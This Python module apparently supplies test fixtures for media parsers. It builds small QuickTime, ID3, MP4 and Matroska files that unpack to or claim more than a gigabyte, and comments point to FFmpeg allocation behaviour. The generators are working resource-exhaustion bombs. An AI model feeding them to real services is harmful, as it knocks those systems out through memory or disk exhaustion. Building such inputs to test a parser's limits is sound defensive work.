"""Small files that claim, or unpack to, more than a gigabyte.

Sources: QuickTime File Format (compressed movie resources), ID3v2.4 (compressed frames), ISO/IEC 14496-12 (stsz, stsc,
trun), Matroska (RFC 9559, content compression).
"""

import struct
import zlib

_MB = 1 << 20
BIG_MB = 1200


def _box(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(content), name) + content


def _full_box(name: bytes, *values: int, flags: int = 0, rest: bytes = b"") -> bytes:
    """A box with version and flags, then 32-bit values."""
    return _box(name, struct.pack(f">{1 + len(values)}I", flags, *values) + rest)


def _zlib_of_zeros(megabytes: int, first: bytes = b"") -> bytes:
    """Returns a zlib stream of so many zeros after the first bytes, made without compressing them all."""
    packer = zlib.compressobj(9)
    head = packer.compress(first + bytes(_MB - len(first))) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(_MB)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.adler32(first)
    low, high = checksum & 0xFFFF, checksum >> 16
    high = (high + (megabytes * _MB - len(first)) * low) % 65521
    return head + again * (megabytes - 1) + b"\x03\x00" + struct.pack(">I", high << 16 | low)


def quicktime_index() -> bytes:
    """A QuickTime file whose index is compressed, and unpacks to a box of zeros."""
    packed = _zlib_of_zeros(BIG_MB, struct.pack(">I4s", BIG_MB * _MB, b"free"))
    index = _box(b"dcom", b"zlib") + _box(b"cmvd", struct.pack(">I", BIG_MB * _MB) + packed)
    return _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"moov", _box(b"cmov", index)) + _box(b"mdat", bytes(64))


def tag_before_aac() -> bytes:
    """An AAC stream behind an ID3 tag whose picture is compressed."""

    def seven_bits(number: int) -> bytes:
        return bytes(number >> shift & 127 for shift in (21, 14, 7, 0))

    picture = struct.pack(">I", BIG_MB * _MB) + _zlib_of_zeros(BIG_MB)  # FFmpeg reads all 32 bits of this length
    frame = b"APIC" + seven_bits(len(picture)) + b"\0\x09" + picture
    aac = b"\xff\xf1\x50\x80\x02\x1f\xfc" + bytes([0x21, 0x10, 4, 0x60, 0x8C, 0x1C, 0, 0, 0])
    return b"ID3\x04\0\0" + seven_bits(len(frame)) + frame + aac * 20


def table_of_samples(samples: int, in_fragment: bool) -> bytes:
    """An MP4 file that claims so many samples of one byte, in its index or in a fragment; FFmpeg keeps 24 for each."""
    codec = struct.pack(">6xH8xHHHHI", 1, 1, 16, 0, 0, 16_000 << 16)
    table = _full_box(b"stsd", 1, rest=_box(b"mp4a", codec))
    if in_fragment:
        table += b"".join(_full_box(name, 0) for name in (b"stts", b"stsc", b"stco")) + _full_box(b"stsz", 0, 0)
    else:
        table += _full_box(b"stts", 1, samples, 1024) + _full_box(b"stsc", 1, 1, samples, 1)
        table += _full_box(b"stsz", 1, samples) + _full_box(b"stco", 1, 100)
    media = _full_box(b"mdhd", 0, 0, 16_000, 0, 0) + _full_box(b"hdlr", 0, rest=b"soun" + bytes(13))
    media += _box(b"minf", _full_box(b"smhd", 0) + _box(b"stbl", table))
    track = _box(b"trak", _full_box(b"tkhd", 0, 0, 1, 0, 0, flags=3, rest=bytes(60)) + _box(b"mdia", media))
    extends = _box(b"mvex", _full_box(b"trex", 1, 1, 1024, 1, 0)) if in_fragment else b""
    index = _box(b"moov", _full_box(b"mvhd", 0, 0, 1000, 0, rest=bytes(80)) + track + extends)
    if in_fragment:
        run = _full_box(b"tfhd", 1, flags=0x20000) + _full_box(b"trun", samples)
        index += _box(b"moof", _full_box(b"mfhd", 1) + _box(b"traf", run))
    return _box(b"ftyp", b"isom\0\0\0\0isom") + index + _box(b"mdat", bytes([0x21, 0x10, 4, 0x60, 0x8C, 0x1C]) * 64)


def _element(name: str, content: bytes) -> bytes:
    return bytes.fromhex(name) + struct.pack(">Q", 1 << 56 | len(content)) + content


def packed_blocks(blocks: int, megabytes: int) -> bytes:
    """A Matroska file of PCM in blocks that unpack to so many megabytes each."""
    packing = _element("6240", _element("5033", b"\0") + _element("5034", _element("4254", b"\0")))
    sound = _element("B5", struct.pack(">d", 16_000.0)) + _element("9F", b"\1") + _element("6264", b"\x10")
    entry = _element("D7", b"\1") + _element("73C5", b"\1") + _element("83", b"\2") + _element("86", b"A_PCM/INT/LIT")
    tracks = _element("1654AE6B", _element("AE", entry + _element("E1", sound) + _element("6D80", packing)))
    block = _element("A3", b"\x81\0\0\x80" + _zlib_of_zeros(megabytes))
    cluster = _element("1F43B675", _element("E7", b"\0") + block * blocks)
    head = _element("1A45DFA3", _element("4282", b"matroska") + _element("4287", b"\4") + _element("4285", b"\2"))
    info = _element("1549A966", _element("2AD7B1", struct.pack(">I", 1_000_000)))
    return head + _element("18538067", info + tracks + cluster)


BOMBS = {
    "a QuickTime index that is compressed": quicktime_index,
    "an ID3 tag that is compressed": tag_before_aac,
    "a table of samples": lambda: table_of_samples(60_000_000, in_fragment=False),
    "a fragment's samples": lambda: table_of_samples(60_000_000, in_fragment=True),
    "blocks of Matroska that are compressed": lambda: packed_blocks(400, 9),
}
